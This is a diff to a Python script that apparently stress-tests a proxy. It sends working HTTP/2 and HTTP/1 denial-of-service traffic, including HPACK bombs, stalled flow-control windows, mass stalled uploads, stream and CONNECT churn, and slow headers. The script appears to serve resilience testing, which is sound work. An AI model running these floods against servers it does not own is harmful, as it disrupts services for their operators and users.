@@ -1,7 +1,8 @@
-"""One attack on a proxy: attacker.py ATTACK HOST PORT SECONDS [CA]. Prints a JSON object of what the proxy answered.
+"""One attack on a proxy: attacker.py ATTACK HOST PORT SECONDS [CA [CERTIFICATE KEY]]. Prints a JSON object of what the proxy answered.
 
 A process of its own at the lowest priority, so that on one or two cores it is the attack that competes with the victim
-and not the attacker's Python; every attack is paced by `pause`. With CA the attack goes through TLS.
+and not the attacker's Python; every attack is paced by `pause`. With CA the attack goes through TLS,
+with CERTIFICATE and KEY through mutual TLS.
 """
 
 import collections
@@ -56,6 +57,7 @@ class Link:
             attack.context.set_alpn_protocols(["h2" if http2 else "http/1.1"])
             raw = attack.context.wrap_socket(raw)
         self.raw, self.http2 = raw, http2
+        self.resets = set()
         attack.links.append(self)
         if http2:
             self.send(PREFACE + frame(SETTINGS, 0, 0, settings))
@@ -108,19 +110,22 @@ class Link:
             kind, payload = self.buffer[3], self.buffer[9:9 + length]
             if kind == RST:
                 self.attack.seen[f"rst {int.from_bytes(payload, 'big')}"] += 1
+                self.resets.add(int.from_bytes(self.buffer[5:9], "big"))
             elif kind == GOAWAY:
                 self.attack.seen[f"goaway {int.from_bytes(payload[4:8], 'big')}"] += 1
             self.buffer = self.buffer[9 + length:]
 
 
 class Attack:
-    def __init__(self, address, seconds, authority):
+    def __init__(self, address, seconds, authority=None, *certificate):
         self.address, self.links, self.seen, self.bytes = address, [], collections.Counter(), 0
         self.end = time.monotonic() + seconds
         self.context = None
         if authority:
             self.context = ssl.create_default_context(cafile=authority)
             self.context.check_hostname = False
+        if certificate:
+            self.context.load_cert_chain(*certificate)
 
     @property
     def is_over(self):
@@ -138,20 +143,26 @@ class Attack:
             except (Closed, OSError):
                 self.seen["closed"] += 1
                 self.pause(0.02)
-            for link in self.links:
-                link.raw.close()
-            self.links.clear()
+            self.vanish()
+
+    def vanish(self):
+        """By a reset: a client that only ends its side may still wait for answers, and the proxy lets it."""
+        for link in self.links:
+            with contextlib.suppress(OSError):
+                link.raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+            link.raw.close()
+        self.links.clear()
 
 
 # MARK: HTTP/2
 
-def streams(link, attack, make, batch=20, settings=None):
+def streams(link, attack, make, batch=20, pause=0.005):
     """Streams 1, 3, 5 ... in batches."""
     stream = 1
     while not attack.is_over:
         link.send(b"".join(make(stream + 2 * n) for n in range(batch)))
         stream += 2 * batch
-        attack.pause()
+        attack.pause(pause)
 
 
 def flood(attack, piece, *, opening=b"", batch=200, reads=True, settings=b""):
@@ -214,15 +225,16 @@ def hpack_bomb(attack):
     link.send(frame(HEADERS, 5, 1, GET + entry))
     bomb = GET + b"\xbe" * 16000
     stream = 3
+    # Slow enough for a debug build, which takes milliseconds for a bomb.
     while not attack.is_over:
         link.send(frame(HEADERS, 5, stream, bomb))
         stream += 2
-        attack.pause()
+        attack.pause(0.1)
 
 
 def cookie_crumbs(attack):
     crumbs = GET + b"\x60\x01a" + b"\xbe" * 15000
-    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, crumbs), batch=1)
+    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, crumbs), batch=1, pause=0.1)
 
 
 def table_flapping(attack):
@@ -240,51 +252,57 @@ def refused_streams(attack):
 
 
 def tiny_windows(attack):
-    flood(attack, frame(WINDOW_UPDATE, 0, 1, word(1)), opening=frame(HEADERS, 5, 1, get(b"/large")), batch=1,
-          settings=setting(4, 1))
+    """Windows of one byte on 50 answers, opened again one byte at a time."""
+    numbers = range(1, 101, 2)
+    flood(attack, b"".join(frame(WINDOW_UPDATE, 0, n, word(1)) for n in numbers), batch=1, settings=setting(4, 1),
+          opening=b"".join(frame(HEADERS, 5, n, get(b"/large")) for n in numbers))
 
 
 def window_stall(attack):
-    """Windows of 0, held for ever, on a thousand answers."""
+    """Windows of 0, held for ever, on 400 answers of 64 KiB."""
     link = Link(attack, setting(4, 0))
-    link.send(b"".join(frame(HEADERS, 5, n * 2 + 1, get(b"/large")) for n in range(1000)))
+    link.send(b"".join(frame(HEADERS, 5, n * 2 + 1, get(b"/large")) for n in range(400)))
     while not attack.is_over:
         link.send(frame(PING, 0, 0, b"tick-tac"))
         attack.pause(0.05)
 
 
 def stalled_uploads(attack):
-    """Every window of every stream of many connections filled, towards an application that takes nothing."""
-    links = [Link(attack) for _ in range(40)]
-    block = b"".join(frame(DATA, 0, 0, bytes(16384)) for _ in range(1))
+    """Every window of every stream of 100 connections filled, towards an application that takes nothing: 100 MiB."""
+    links = [Link(attack) for _ in range(100)]
+    numbers = range(1, 9, 2)
     for link in links:
-        link.send(b"".join(frame(HEADERS, 4, n * 2 + 1, b"\x83" + get(b"/stall")[1:]) for n in range(16)))
-    sent = collections.Counter()
+        link.send(b"".join(frame(HEADERS, 4, n, b"\x83" + get(b"/stall")[1:]) for n in numbers))
+    # Four frames a time; the first 65,535 bytes fit any window.
+    for _ in range(16):
+        for link in list(links):
+            try:
+                link.send(b"".join(frame(DATA, 0, n, bytes(16384)) for n in numbers if n not in link.resets))
+            except Closed:
+                attack.seen["closed"] += 1
+                links.remove(link)
+        attack.pause(0.05)
     while not attack.is_over:
-        for link in links:
+        for link in list(links):
             with contextlib.suppress(Closed):
-                for n in range(16):
-                    # The first 60,000 bytes fit the initial windows; later ones go only where no RST came.
-                    if sent[link, n] < 16:
-                        link.send(block[:5] + word(n * 2 + 1) + block[9:])
-                        sent[link, n] += 1
-        attack.pause(0.01)
+                link.receive()
+        attack.pause(0.05)
 
 
 def unread_answers(attack):
     """Requests whose answers no window holds up, and nobody reads."""
     link = Link(attack, receive_buffer=8192, reads=False)
-    streams(link, attack, lambda n: frame(HEADERS, 5, n, get(b"/header")), batch=50)
+    streams(link, attack, lambda n: frame(HEADERS, 5, n, get(b"/header")), batch=6)
 
 
 def stream_churn(attack):
-    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, GET), batch=100)
+    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, GET), batch=10)
 
 
 def connect_churn(attack):
     """CONNECT, which the listener answers itself: the cheapest request there is."""
     block = b"\x02\x07CONNECT\x01\x05a:443"
-    streams(Link(attack), attack, lambda n: frame(HEADERS, 4, n, block), batch=1000)
+    streams(Link(attack), attack, lambda n: frame(HEADERS, 4, n, block), batch=200, pause=0.05)
 
 
 # MARK: HTTP/1
@@ -297,7 +315,7 @@ def plain(attack, data, *, opening=b"", batch=1, reads=True, receive_buffer=0):
         attack.pause()
 
 
-CHUNKED = b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
+CHUNKED = b"POST /upload HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
 
 
 def chunk_extensions(attack):
@@ -322,9 +340,12 @@ def slow_heads(attack):
     for _ in range(25):
         links.append((Link(attack, http2=False), b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"a" * 100))
         link = Link(attack, http2=False)
-        links.append((link, PREFACE[:-1]))
+        link.send(PREFACE)
+        links.append((link, frame(SETTINGS, 0, 0, setting(4, 70000) * 20)))
         links.append((Link(attack), frame(HEADERS, 5, 1, GET + b"\x00\x01a\x60" + b"b" * 96)))
-        links.append((Link(attack), frame(HEADERS, 0, 1, GET) + frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * 8))
+        link = Link(attack)
+        link.send(frame(HEADERS, 0, 1, GET))
+        links.append((link, frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * 8))
     at = 0
     while links and not attack.is_over:
         for link, data in list(links):
@@ -384,12 +405,13 @@ def harmless(attack):
 
 
 def main():
-    name, host, port, seconds, *authority = sys.argv[1:]
+    name, host, port, seconds, *credentials = sys.argv[1:]
     os.nice(19)
-    attack = Attack((host, int(port)), float(seconds), authority[0] if authority else None)
+    attack = Attack((host, int(port)), float(seconds), *credentials)
     one = globals()[name]
     lasting = {"slow_heads", "left_handshakes", "stalled_uploads"}
     one(attack) if name in lasting else attack.again(one)
+    attack.vanish()
     print(json.dumps({**attack.seen, "bytes": attack.bytes}))
 
 
